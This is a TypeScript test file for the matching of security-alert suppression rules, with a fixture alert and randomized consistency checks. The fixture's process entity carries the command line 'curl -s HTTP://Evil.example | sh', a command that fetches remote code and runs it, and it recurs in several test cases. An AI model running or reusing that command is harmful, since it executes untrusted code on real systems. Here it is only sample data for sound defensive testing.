import { suppressionFields } from "../../../Extension/ArmEmulator/World/Security/Suppression/suppressionFields";
import { ruleMatches } from "../../../Extension/ArmEmulator/World/Security/Suppression/suppressionMatching";
import type { SuppressionCondition } from "../../../Extension/ArmEmulator/World/Security/Suppression/suppressionRule";
import { createRandom, type Random } from "../../../Extension/ArmEmulator/World/random";
import { worldsOf } from "./worlds";

type Json = Readonly<Record<string, unknown>>;

const entities: readonly Json[] = [
  {
    $id: "1",
    name: "prod",
    cloudResource: { $id: "2", resourceId: "/subscriptions/S/x/Prod", type: "azure-resource" },
    type: "K8s-cluster",
  },
  { $ref: "2" },
  { $id: "3", address: "203.0.113.7", location: { countryCode: "NL" }, type: "ip" },
  { $id: "4", address: "198.51.100.9", type: "IP" },
  {
    $id: "5",
    commandLine: "curl -s HTTP://Evil.example | sh",
    processId: 17,
    imageFile: { $id: "6", directory: "/tmp", name: "curl", type: "file", host: { $ref: "8" } },
    parentProcess: { $ref: "7" },
    type: "process",
  },
  { $id: "7", imageFile: { $id: "9", name: "bash", type: "file" }, type: "process" },
  { $id: "8", hostName: "aks-node-1", type: "host" },
];
const alert = { properties: { alertType: "K8S.NODE_Drift", entities } };
const isIn = (field: string, ...texts: readonly string[]): SuppressionCondition => ({ field, in: texts });
const contains = (field: string, text: string): SuppressionCondition => ({ field, contains: text });
const ip = "entities.ip.address";
const resource = "entities.azureresource.resourceid";
const file = "entities.file.name";
const command = "entities.process.commandline";

describe("whether a rule is about an alert", () => {
  test.each<readonly [string, string, readonly SuppressionCondition[] | undefined, boolean]>([
    ["its type, without scope", "K8S.NODE_Drift", undefined, true],
    ["its type in other letters", "k8s.node_DRIFT", undefined, true],
    ["every type", "*", undefined, true],
    ["another type", "K8S.NODE_Drif", undefined, false],
    ["a pattern, which there is not", "K8S.*", undefined, false],
    ["another type, with a scope that would match", "Other", [isIn(ip, "203.0.113.7")], false],
    ["a text of an entity", "*", [isIn(ip, "203.0.113.7")], true],
    ["one of several texts", "*", [isIn(ip, "10.0.0.1", "203.0.113.7")], true],
    ["any of several entities", "*", [isIn(ip, "198.51.100.9")], true],
    ["none of the texts", "*", [isIn(ip, "10.0.0.1", "10.0.0.2")], false],
    ["a part of a text, where in wants all of it", "*", [isIn(ip, "203.0.113.")], false],
    ["a text that contains all of it", "*", [isIn(ip, "203.0.113.77")], false],
    ["a part of a text", "*", [contains(ip, "203.0.113.")], true],
    ["a part that is not there", "*", [contains(ip, "203.0.114.")], false],
    ["a part in other letters", "*", [contains(command, "http://EVIL")], true],
    ["a whole text in other letters", "*", [isIn(command, "CURL -S http://evil.example | SH")], true],
    ["no pattern: a dot is a dot", "*", [contains(ip, "203.0.113.[0-9]")], false],
    [
      "a nested entity, its kind spelled without dash",
      "*",
      [isIn(resource, "/SUBSCRIPTIONS/s/X/prod")],
      true,
    ],
    ["a property in other letters", "*", [isIn("ENTITIES.Host.HOSTNAME", "aks-node-1")], true],
    ["an entity that is nested only", "*", [isIn(file, "curl")], true],
    ["another one, of the parent process", "*", [isIn(file, "bash")], true],
    ["all of several conditions", "*", [isIn(ip, "203.0.113.7"), contains(file, "cur")], true],
    ["all, by different entities of one kind", "*", [isIn(file, "curl"), isIn(file, "bash")], true],
    ["all but one", "*", [isIn(ip, "203.0.113.7"), isIn(file, "zsh")], false],
    ["a kind that the alert does not have", "*", [contains("entities.malware.name", "a")], false],
    ["a property that no entity has", "*", [contains("entities.host.dnsdomain", "a")], false],
    ["the text of another property", "*", [isIn("entities.file.directory", "curl")], false],
    ["the text of another kind", "*", [isIn("entities.account.name", "prod")], false],
    ["what is no text", "*", [contains("entities.process.processid", "17")], false],
  ])("%s", (_, alertType, conditions, expected) => {
    expect(ruleMatches({ alertType, ...(conditions ? { conditions } : {}) }, alert)).toBe(expected);
  });

  test.each<readonly [string, unknown]>([
    ["none", undefined],
    ["null", null],
    ["an empty list", []],
    ["a text", '[{"type":"ip","address":"203.0.113.7"}]'],
    ["nulls and numbers", [null, 7, "ip"]],
    ["a reference to nothing", [{ $ref: "99" }]],
    ["no kind", [{ address: "203.0.113.7" }]],
    ["a kind that is null", [{ type: null, address: "203.0.113.7" }]],
  ])("entities that are %s match no condition, and a rule without one", (_, odd) => {
    const other = { properties: { ...alert.properties, entities: odd } };
    expect(ruleMatches({ alertType: "*", conditions: [contains(ip, "203")] }, other)).toBe(false);
    expect(ruleMatches({ alertType: "*" }, other)).toBe(true);
  });
});

/** Every object in a list, nested ones too, and what each reference refers to: written again, in another way. */
function everyEntity(list: unknown): readonly Json[] {
  const found: Json[] = [];
  const waiting: unknown[] = [list];
  while (waiting.length > 0) {
    const value = waiting.pop();
    if (typeof value === "object" && value !== null) {
      waiting.push(...(Object.values(value) as readonly unknown[]));
      found.push(value as Json);
    }
  }
  return found.filter(({ type }) => typeof type === "string");
}

interface Fact {
  readonly field: string;
  readonly text: string;
}

/** The texts of a list of entities, each with the field that a rule would call it. */
function factsIn(list: unknown): readonly Fact[] {
  return everyEntity(list).flatMap((entity) =>
    Object.entries(entity).flatMap(([key, text]) =>
      typeof text === "string" && text !== ""
        ? [{ field: `entities.${String(entity.type).replaceAll("-", "")}.${key}`.toLowerCase(), text }]
        : [],
    ),
  );
}

/** A condition that some alert of a world fulfils, or nearly. */
function randomCondition(random: Random, facts: readonly Fact[]): SuppressionCondition {
  const fact = random.pick(facts);
  const field = random.oneIn(8) ? random.pick(suppressionFields) : fact.field;
  const text = random.oneIn(2) ? fact.text.toUpperCase() : fact.text;
  const start = random.whole(text.length);
  return random.oneIn(2)
    ? { field, in: [text, random.pick(facts).text] }
    : { field, contains: text.slice(start, start + 1 + random.whole(text.length - start)) };
}

/** The same question by brute force, from the words of the rule. */
function expectedMatch(conditions: readonly SuppressionCondition[], list: unknown): boolean {
  const facts = factsIn(list).map(({ field, text }) => `${field}=${text}`.toLowerCase());
  return conditions.every((condition) => {
    const start = `${condition.field}=`;
    const own = facts.filter((fact) => fact.startsWith(start)).map((fact) => fact.slice(start.length));
    return "in" in condition
      ? own.some((fact) => condition.in.map((text) => text.toLowerCase()).includes(fact))
      : own.some((fact) => fact.includes(condition.contains.toLowerCase()));
  });
}

test("random rules in random worlds match what they say, some of them something", () => {
  const random = createRandom(77);
  let rules = 0;
  let matching = 0;
  for (const { alerts } of worldsOf({}, 10)) {
    const facts = alerts
      .flatMap(({ properties }) => factsIn(properties.entities))
      .filter(({ field }) => suppressionFields.includes(field));
    for (let round = 0; round < 40; round += 1) {
      const conditions = Array.from({ length: 1 + random.whole(2) }, () => randomCondition(random, facts));
      const matched = alerts.filter((one) => ruleMatches({ alertType: "*", conditions }, one));
      const expected = alerts.filter(({ properties }) => expectedMatch(conditions, properties.entities));
      expect(matched).toEqual(expected);
      rules += 1;
      matching += matched.length > 0 && matched.length < alerts.length ? 1 : 0;
    }
  }
  expect(rules).toBe(400);
  expect(matching).toBeGreaterThan(100);
});
